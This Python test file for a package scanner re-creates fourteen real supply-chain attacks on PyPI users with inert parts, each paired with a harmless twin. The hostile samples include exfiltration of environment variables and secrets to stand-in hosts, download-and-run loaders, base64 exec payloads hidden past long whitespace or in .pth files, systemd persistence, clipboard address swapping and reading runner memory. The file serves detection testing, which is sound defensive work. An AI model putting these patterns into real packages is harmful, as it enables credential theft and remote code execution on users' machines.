"""The shapes of real attacks on Python's users, drawn anew with inert parts, and an honest twin of each.

Nothing here is ever run, and every address is one that cannot exist.
"""

from __future__ import annotations

import base64
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest

from gatekeeper.model import Ruling
from tests.support.coverage import claimed
from tests.support.judging import allows, checks_of, explained, judged
from tests.support.packages import sdist, wheel

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

    from gatekeeper.model import Verdict

SETUP = "from setuptools import setup\nsetup(name='acme-thing', version='1.0', py_modules=['acme_thing'])\n"
HIDDEN = base64.b64encode(b"import os\nos.system('id > /tmp/a')\n").decode()
PACKED = base64.b64encode(zlib.compress(b"import os\nos.system('id > /tmp/a')\n")).decode()[::-1]


@dataclass(frozen=True)
class Shape:
    """What its package holds, and what the honest one of the same kind holds."""

    hostile: Mapping[str, str | bytes]
    honest: Mapping[str, str | bytes]
    version: str = "1.0"


def module(code: str) -> dict[str, str | bytes]:
    return {"acme_thing/__init__.py": code}


SHAPES = {
    # ctx, 2022: the constructor sends the environment away
    "an environment in a constructor": Shape(
        module(
            "import base64, os, urllib.request\n\nclass Ctx(dict):\n    def __init__(self):\n"
            "        text = ''.join(f'{k}={v};' for k, v in os.environ.items())\n"
            "        urllib.request.urlopen('https://files.example/' + base64.b64encode(text.encode()).decode())\n\nCtx()\n"
        ),
        module(
            "import os\n\nclass Ctx(dict):\n    def __init__(self):\n        self['home'] = os.environ.get('HOME')\n"
        ),
    ),
    # torchtriton, 2022: an import starts a bundled program
    "a bundled program on import": Shape(
        {
            **module(
                "import os, subprocess\nhere = os.path.join(os.path.dirname(__file__), 'triton')\n"
                "os.chmod(here, 0o755)\nsubprocess.Popen([here], stdout=subprocess.DEVNULL)\n"
            ),
            "acme_thing/triton": b"\x7fELF" + b"\0" * 60,
        },
        {
            **module(
                "import os, subprocess\ndef run(*words):\n"
                "    return subprocess.run([os.path.join(os.path.dirname(__file__), 'triton'), *words])\n"
            ),
            "acme_thing/triton": b"\x7fELF" + b"\0" * 60,
        },
    ),
    # colourama, 2018: a build command decodes a script and hands it to wscript
    "a script of Windows in a build command": Shape(
        {
            "setup.py": "import base64, subprocess\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\n\nclass Mine(install):\n    def run(self):\n"
            f"        open('a.vbs', 'wb').write(base64.b64decode('{HIDDEN}'))\n"
            "        subprocess.call('wscript.exe a.vbs')\n        install.run(self)\n\n"
            "setup(name='acme-thing', version='1.0', cmdclass={'install': Mine})\n"
        },
        {
            "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
            "class Mine(install):\n    def run(self):\n        install.run(self)\n        print('thanks')\n\n"
            "setup(name='acme-thing', version='1.0', cmdclass={'install': Mine})\n"
        },
    ),
    # W4SP, 2022: code far to the right of an innocent line
    "code far to the right": Shape(
        module(
            "import sys\nVERSION = '1.0'"
            + " " * 300
            + f";__import__('builtins').exec(__import__('base64').b64decode('{HIDDEN}'))\n"
        ),
        module("import sys\nVERSION = '1.0'" + " " * 40 + "# the release\n"),
    ),
    # aiocpa, 2024: exec of what a lambda turns round and inflates
    "a reversed and packed text": Shape(
        module(
            "f = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\n"
            f"exec(f('{PACKED}'))\n"
        ),
        module(
            "import base64, zlib\n\ndef unpack(text):\n    return zlib.decompress(base64.b64decode(text))\n"
            f"LOGO = '{PACKED[::-1]}'\n"
        ),
    ),
    # ultralytics, 2024: download, make it a program, start it apart
    "a download that is started apart": Shape(
        module(
            "import os, subprocess, urllib.request\nurllib.request.urlretrieve('https://files.example/a', '/tmp/a')\n"
            "os.chmod('/tmp/a', 0o777)\nsubprocess.Popen(['/tmp/a', '-o', 'pool.example:3333'], start_new_session=True)\n"
        ),
        module(
            "import urllib.request\n\ndef weights(to):\n"
            "    urllib.request.urlretrieve('https://files.example/weights.pt', to)\n"
        ),
    ),
    # litellm, 2026: a start-up file that decodes and runs
    "a start-up file that decodes": Shape(
        {
            **module(""),
            "acme_init.pth": f"import base64, subprocess; exec(base64.b64decode('{HIDDEN}'))\n",
        },
        {**module(""), "acme_init.pth": "../acme/src\n"},
    ),
    # litellm, 2026: a unit of the person's own systemd
    "a unit of systemd": Shape(
        module(
            "import os, subprocess\nat = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
            "open(at, 'w').write('[Service]\\nExecStart=/tmp/a\\n')\n"
            "subprocess.run(['systemctl', '--user', 'enable', 'sysmon'])\n"
        ),
        module("def unit(name):\n    return f'[Service]\\nExecStart={name}\\n'\n"),
    ),
    # durabletask, 2026: an archive of Python that runs on by itself
    "an archive of Python that runs on": Shape(
        module(
            "import subprocess, sys, tempfile, urllib.request\nat = tempfile.mktemp(suffix='.pyz')\n"
            "open(at, 'wb').write(urllib.request.urlopen('https://files.example/a.pyz').read())\n"
            "subprocess.Popen([sys.executable, at], start_new_session=True, stdin=subprocess.DEVNULL)\n"
        ),
        module("import zipapp\n\ndef pack(folder, to):\n    zipapp.create_archive(folder, to)\n"),
    ),
    # Hades, 2026: a start-up file hands bundled JavaScript to another runtime
    "a start-up file that starts another runtime": Shape(
        {
            **module(""),
            "acme_thing/data/index.js": "require('child_process').execSync('id > /tmp/a')\n",
            "acme-setup.pth": "import os, subprocess; subprocess.Popen(['bun', 'run', os.path.join(os.path.dirname("
            "os.__file__), 'site-packages/acme_thing/data/index.js')])\n",
        },
        {**module(""), "acme-setup.pth": "./acme_thing/vendored\n"},
    ),
    # InvisibleFerret, 2023 to 2026: code is asked for and run
    "code that is asked for": Shape(
        module("import requests\nexec(requests.get('https://files.example/p').text)\n"),
        module("import requests\n\ndef version():\n    return requests.get('https://files.example/v').text\n"),
    ),
    # beacons of dependency confusion: a version nobody would reach, and who is asking
    "a beacon from setup.py": Shape(
        {
            "setup.py": "import getpass, os, socket, urllib.request\nfrom setuptools import setup\n"
            "urllib.request.urlopen('http://a.oast.fun/?h=' + socket.gethostname() + '&u=' + getpass.getuser())\n"
            "setup(name='acme-thing', version='99.9.9')\n"
        },
        {
            "setup.py": "import platform\nfrom setuptools import setup\n"
            "setup(name='acme-thing', version='99.9.9', install_requires=[] if platform.system() == 'Linux' else [])\n"
        },
        version="99.9.9",
    ),
    "messages to a chat's webhook": Shape(
        module(
            "import os, requests\n"
            "requests.post('https://discord.com/api/webhooks/1/a', json={'content': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n"
        ),
        module("import requests\n\ndef tell(url, text):\n    requests.post(url, json={'content': text})\n"),
    ),
    "an address swapped in the clipboard": Shape(
        module(
            "import re, threading, time\nimport pyperclip\n\ndef watch():\n    while True:\n"
            "        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n"
            "            pyperclip.copy('bc1qexample')\n        time.sleep(1)\n\nthreading.Thread(target=watch).start()\n"
        ),
        module("import pyperclip\n\ndef copy(text):\n    pyperclip.copy(text)\n"),
    ),
    # what the runner of a build server holds in memory (the action tj-actions/changed-files, 2025, in a package)
    "secrets out of another process's memory": Shape(
        module(
            "import os, re, urllib.request\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n"
            "    if 'Runner.Worker' in open(f'/proc/{pid}/cmdline').read():\n"
            "        raw = open(f'/proc/{pid}/mem', 'rb').read()\n"
            "        urllib.request.urlopen('https://files.example/a', data=raw)\n"
        ),
        module("import os\n\ndef running():\n    return [pid for pid in os.listdir('/proc') if pid.isdigit()]\n"),
    ),
}


def judge(files: Mapping[str, str | bytes], version: str, folder: Path) -> Verdict:
    if "setup.py" in files:
        return judged(sdist("acme-thing", version, files=files), folder)
    return judged(wheel("acme-thing", version, files), folder)


@pytest.mark.parametrize("name", SHAPES)
def test_a_shape_of_a_real_attack_is_refused(name: str, tmp_path: Path) -> None:
    shape = SHAPES[name]
    verdict = judge(shape.hostile, shape.version, tmp_path)
    assert verdict.ruling is Ruling.BLOCK, explained(verdict)
    assert claimed("shape-python", name) <= checks_of(verdict), explained(verdict)


@pytest.mark.parametrize("name", SHAPES)
def test_its_honest_twin_raises_no_question(name: str, tmp_path: Path) -> None:
    shape = SHAPES[name]
    verdict = judge(shape.honest, shape.version, tmp_path)
    assert allows(verdict), explained(verdict)
